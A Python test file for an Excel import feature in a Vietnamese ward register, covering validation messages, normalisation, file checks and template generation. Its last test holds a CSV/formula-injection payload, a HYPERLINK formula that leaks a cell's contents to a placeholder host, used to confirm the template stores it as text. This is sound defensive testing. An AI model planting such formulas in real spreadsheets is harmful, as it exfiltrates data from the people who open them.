"""The Excel import: every kind of bad input is reported by row and column, in Vietnamese,
and nothing is saved unless everything is right."""

import io
import unicodedata
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from dashboards import summaries
from dashboards.models import ActivityMonth, SchemeYear
from tests.register import make_activity, make_scheme, sheet
from wards.imports import ActivityImport, SchemeImport
from wards.models import Activity, ResidentialArea, Scheme


def headers(importer) -> list[str]:
    return [column.header for column in importer.columns]


def scheme_row(importer, **values) -> list:
    """A row in the template's column order, from {header: value}."""
    return [values.get(header) for header in headers(importer)]


@pytest.fixture
def schemes(units, kinds, areas, people):
    return SchemeImport(units["ward"], people["ward_official"])


@pytest.fixture
def activity(units, kinds, areas, people):
    return ActivityImport(units["ward"], people["ward_official"])


def read(importer, rows, header=None):
    return importer.read(sheet(header or headers(importer), rows))


def messages(result) -> list[tuple[int, str, str]]:
    return [(e.row, e.column, e.message) for e in result.errors]


GOOD = {
    "Loại mô hình": "Tổ liên gia an toàn PCCC",
    "Tên mô hình": "Tổ liên gia khu 1",
    "Khu dân cư": "Khu 1",
    "Ngày thành lập": "19/08/2024",
    "Số hộ tham gia": 10,
    "Số bình chữa cháy": 12,
}


def test_a_good_sheet_is_saved_whole_with_its_history(schemes, units, people):
    rows = [
        scheme_row(schemes, **GOOD),
        scheme_row(
            schemes,
            **{
                "Loại mô hình": "camera an ninh",  # case and accents as typed do not matter
                "Tên mô hình": "Camera chợ",
                "Số camera": 8,
                "Số camera kết nối Công an": 5,
                "Vĩ độ": "21,0285",
                "Kinh độ": 105.8542,
            },
        ),
    ]
    result = read(schemes, rows)
    assert messages(result) == []
    schemes.commit(sheet(headers(schemes), rows))
    saved = {s.name: s for s in Scheme.objects.filter(ward=units["ward"])}
    assert saved["Tổ liên gia khu 1"].established_on == date(2024, 8, 19)
    assert saved["Tổ liên gia khu 1"].area.name == "Khu 1"
    assert (saved["Camera chợ"].camera_count, saved["Camera chợ"].cameras_connected) == (8, 5)
    # The dashboards' yearly totals of the ward follow the import.
    assert summaries.rebuild([units["ward"].pk])["schemes"] == 0
    assert SchemeYear.objects.filter(ward=units["ward"], year=2024, founded=1).exists()
    assert str(saved["Camera chợ"].latitude) == "21.028500"
    record = saved["Camera chợ"].history.get()
    assert record.history_user == people["ward_official"]
    assert record.history_change_reason == "Nhập từ tệp Excel"
    assert list(Scheme.objects.search("to lien gia")) == [saved["Tổ liên gia khu 1"]]


def test_text_is_stored_in_nfc_and_matched_in_any_normal_form(schemes):
    nfd = {k: unicodedata.normalize("NFD", v) if isinstance(v, str) else v for k, v in GOOD.items()}
    header = [unicodedata.normalize("NFD", h) for h in headers(schemes)]
    rows = [scheme_row(schemes, **nfd)]
    schemes.commit(sheet(header, rows))
    scheme = Scheme.objects.get()
    assert scheme.name == unicodedata.normalize("NFC", "Tổ liên gia khu 1")
    assert scheme.area.name == "Khu 1"


def test_a_file_that_is_not_an_xlsx_is_refused(schemes):
    result = schemes.read(io.BytesIO("Loại mô hình,Tên\n".encode()))
    assert messages(result) == [(0, "", "Tệp không phải là tệp Excel (.xlsx).")]


def test_an_old_xls_file_is_explained(schemes):
    result = schemes.read(io.BytesIO(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600))
    assert "tệp Excel đời cũ (.xls)" in result.errors[0].message


def test_a_zip_that_is_not_a_workbook_is_refused(schemes):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    result = schemes.read(buffer)
    assert "không phải là tệp Excel" in result.errors[0].message


def test_a_file_over_the_limit_is_refused(schemes, settings):
    settings.REGISTER_IMPORT_MAX_BYTES = 1000
    result = read(schemes, [scheme_row(schemes, **GOOD)] * 50)
    assert "Tệp quá lớn" in result.errors[0].message


def test_wrong_missing_and_repeated_headers_are_named(schemes):
    header = headers(schemes)
    header[1] = "Tên"  # renamed
    header.append("Loại mô hình")  # twice
    result = read(schemes, [scheme_row(schemes, **GOOD)], header=header)
    found = messages(result)
    assert (1, "Tên", "Cột B “Tên” không có trong mẫu: hãy dùng tệp mẫu tải về.") in found
    assert (1, "Tên mô hình", "Thiếu cột “Tên mô hình”.") in found
    assert any("có hai lần" in message for _row, _col, message in found)
    assert result.objects == []


def test_an_empty_sheet_is_refused(schemes):
    assert messages(read(schemes, [])) == [(0, "", "Tệp không có dòng dữ liệu nào.")]


@pytest.mark.parametrize(
    ("cell", "value", "message"),
    [
        ("Ngày thành lập", "31/02/2024", "Ngày không hợp lệ: “31/02/2024”"),
        ("Ngày thành lập", "hôm qua", "Ngày không hợp lệ"),
        ("Số hộ tham gia", -5, "Không được là số âm."),
        ("Số hộ tham gia", "mười", "Phải là số nguyên như 15.000.000, không phải “mười”."),
        ("Số bình chữa cháy", 2.5, "Phải là số nguyên."),
        ("Số bình chữa cháy", "15,5", "Phải là số nguyên như 15.000.000, không phải “15,5”."),
        ("Số bình chữa cháy", "1.5", "Phải là số nguyên như 15.000.000, không phải “1.5”."),
        ("Khu dân cư", "Khu 9", "Không có khu dân cư “Khu 9” ở Phường An."),
        ("Loại mô hình", "Đội bóng", "Không có loại mô hình “Đội bóng” trong danh mục."),
        ("Tên mô hình", None, "Chưa nhập."),
        ("Số hộ tham gia", None, "Loại “Tổ liên gia an toàn PCCC” cần nhập số hộ tham gia."),
        ("Số camera", 4, "Loại “Tổ liên gia an toàn PCCC” không có mục này: hãy để trống."),
        ("Vĩ độ", "21,5", "Cần nhập cả vĩ độ và kinh độ, hoặc để trống cả hai."),
        ("Trạng thái", "Đã giải thể", "Cần nhập ngày tạm ngừng hoặc giải thể."),
    ],
)
def test_each_bad_cell_is_reported_by_row_and_column(schemes, cell, value, message):
    rows = [
        scheme_row(schemes, **{**GOOD, "Tên mô hình": "Tổ liên gia khu 2"}),
        scheme_row(schemes, **{**GOOD, cell: value}),
    ]
    result = read(schemes, rows)
    errors = messages(result)
    assert len(errors) == 1, errors
    row, column, text = errors[0]
    assert row == 3  # Excel's numbering: the header is row 1
    assert text.startswith(message)
    # A rule between two cells is reported at the cell to fill in.
    assert column == {"Vĩ độ": "Kinh độ", "Trạng thái": "Ngày tạm ngừng, giải thể"}.get(cell, cell)
    assert result.objects == []


def test_a_count_in_a_text_cell_reads_as_the_form_reads_it(schemes):
    grouped = {**GOOD, "Số hộ tham gia": "1.200", "Số bình chữa cháy": 15.0}
    spaced = {**GOOD, "Tên mô hình": "Tổ liên gia khu 2", "Số hộ tham gia": "1 200"}
    result = read(schemes, [scheme_row(schemes, **grouped), scheme_row(schemes, **spaced)])
    assert messages(result) == []
    assert [(s.households, s.extinguishers) for s in result.objects] == [(1200, 15), (1200, 12)]


def test_duplicates_in_the_file_and_in_the_register(schemes, units, kinds):
    make_scheme(units["ward"], kinds["to-lien-gia-pccc"], "Tổ liên gia khu 9")
    rows = [
        scheme_row(schemes, **GOOD),
        scheme_row(schemes, **{**GOOD, "Tên mô hình": "tổ liên gia khu 1"}),
        scheme_row(schemes, **{**GOOD, "Tên mô hình": "Tổ liên gia khu 9"}),
    ]
    errors = messages(read(schemes, rows))
    assert errors == [
        (3, "Tên mô hình", "Trùng với dòng 2."),
        (
            4,
            "Tên mô hình",
            "Phường An đã có mô hình “Tổ liên gia khu 9” thuộc loại “Tổ liên gia an toàn PCCC”.",
        ),
    ]


def test_one_bad_row_saves_nothing(schemes):
    rows = [scheme_row(schemes, **GOOD), scheme_row(schemes, **{**GOOD, "Số hộ tham gia": -1})]
    result = schemes.commit(sheet(headers(schemes), rows))
    assert not result.ok
    assert not Scheme.objects.exists()


def test_blank_rows_are_skipped(schemes):
    rows = [[None] * len(headers(schemes)), scheme_row(schemes, **GOOD), ["  "]]
    result = read(schemes, rows)
    assert result.ok
    assert result.rows == 1


def test_too_many_rows_are_refused(schemes, settings):
    settings.REGISTER_IMPORT_MAX_ROWS = 3
    rows = [scheme_row(schemes, **{**GOOD, "Tên mô hình": f"Tổ {n}"}) for n in range(5)]
    assert "hơn 3 dòng" in messages(read(schemes, rows))[0][2]


def test_the_template_has_vietnamese_headers_lists_and_an_example(schemes, units, kinds):
    book = load_workbook(io.BytesIO(schemes.template()))
    data = book["Mô hình"]
    assert [cell.value for cell in data[1]] == headers(schemes)
    validations = {
        str(v.sqref).split(":")[0]: v.formula1 for v in data.data_validations.dataValidation
    }
    assert {"A2", "C2", "E2"} <= set(validations)  # kind, area, status
    lists = book["DanhMuc"]
    assert "Tổ liên gia an toàn PCCC" in [c.value for c in lists["A"]]
    assert [c.value for c in lists["C"] if c.value] == ["Khu 1", "Khu 2", "Khu 3"]
    guide = book["Hướng dẫn"]
    rows = list(guide.iter_rows(values_only=True))
    example = rows[-1]
    # The guide's example row, pasted into the data sheet, imports as it is.
    result = read(schemes, [list(example)])
    assert messages(result) == []


ACTIVITY_HEADERS = ["Ngày", "Loại hoạt động", "Số lượng", "Loại mô hình", "Tên mô hình", "Ghi chú"]


def test_activity_rows_find_their_scheme(activity, units, kinds):
    group = make_scheme(units["ward"], kinds["to-tu-quan"], "Tổ tự quản khu 1")
    rows = [
        ["02/05/2025", "Tin báo, tố giác chuyển Công an", 3, None, "Tổ tự quản khu 1", None],
        [date(2025, 5, 3), "ca tuan tra", 1, None, None, "Tuần tra đêm"],
    ]
    result = activity.commit(sheet(ACTIVITY_HEADERS, rows))
    assert messages(result) == []
    saved = list(Activity.objects.order_by("date"))
    assert [(a.scheme, a.type, a.count) for a in saved] == [
        (group, "tip_off", 3),
        (None, "patrol", 1),
    ]
    assert saved[0].history.get().history_change_reason == "Nhập từ tệp Excel"
    # The dashboards' monthly totals of the ward follow the import.
    month = ActivityMonth.objects.get(ward=units["ward"], month=date(2025, 5, 1))
    assert (month.total, month.tip_off, month.patrol) == (4, 3, 1)


def test_activity_errors(activity, units, kinds):
    make_scheme(units["ward"], kinds["to-tu-quan"], "Tổ 1")
    make_scheme(units["ward"], kinds["to-hoa-giai"], "Tổ 1")
    make_scheme(units["sibling"], kinds["to-tu-quan"], "Tổ của Bình")
    rows = [
        ["02/05/2025", "Ca tuần tra", 0, None, None, None],
        ["02/05/2025", "Ca tuần tra", -2, None, None, None],
        ["02/05/2025", "Ca tuần tra", 1, None, "Tổ 1", None],
        ["02/05/2025", "Ca tuần tra", 1, None, "Tổ của Bình", None],
        ["02/05/2025", "Ca tuần tra", 1, "Tổ tự quản ANTT", None, None],
        ["01/01/2999", "Ca tuần tra", 1, None, None, None],
        ["02/05/2025", "Đi chợ", 1, None, None, None],
        ["02/05/2025", "Ca tuần tra", 1, "Tổ hòa giải", "Tổ 1", "đêm"],
        ["02/05/2025", "Ca tuần tra", 1, "Tổ hòa giải", "Tổ 1", "Đêm"],
    ]
    errors = messages(activity.read(sheet(ACTIVITY_HEADERS, rows)))
    assert errors == [
        (2, "Số lượng", "Phải từ 1 trở lên."),
        (3, "Số lượng", "Phải từ 1 trở lên."),
        (4, "Tên mô hình", "Có 2 mô hình tên “Tổ 1”: hãy ghi thêm loại mô hình."),
        (5, "Tên mô hình", "Phường An chưa có mô hình “Tổ của Bình”."),
        (6, "Tên mô hình", "Đã ghi loại mô hình thì cần ghi tên mô hình."),
        (7, "Ngày", "Ngày hoạt động không thể ở tương lai."),
        (8, "Loại hoạt động", "Không có loại hoạt động “Đi chợ” trong danh mục."),
        (10, "", "Trùng với dòng 9."),
    ]


def test_the_same_activity_sheet_twice_is_refused_the_second_time(activity, units):
    rows = [["02/05/2025", "Ca tuần tra", 2, None, None, "Đêm"]]
    assert activity.commit(sheet(ACTIVITY_HEADERS, rows)).ok
    again = activity.commit(sheet(ACTIVITY_HEADERS, rows))
    assert "đã có trong sổ" in again.errors[0].message
    assert again.errors[0].row == 2
    assert Activity.objects.count() == 1
    make_activity(units["ward"], date=date(2025, 5, 2), type="patrol", count=1)
    assert activity.read(
        sheet(ACTIVITY_HEADERS, [["02/05/2025", "Ca tuần tra", 1, None, None, None]])
    ).errors


def test_the_templates_lists_write_a_name_like_a_formula_as_text(schemes, units):
    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
    ResidentialArea.objects.create(ward=units["ward"], kind="khu_pho", name=hostile)
    importer = SchemeImport(units["ward"])
    lists = load_workbook(io.BytesIO(importer.template()))["DanhMuc"]
    cells = [cell for row in lists.iter_rows() for cell in row if cell.value == hostile]
    assert [cell.data_type for cell in cells] == ["s"]
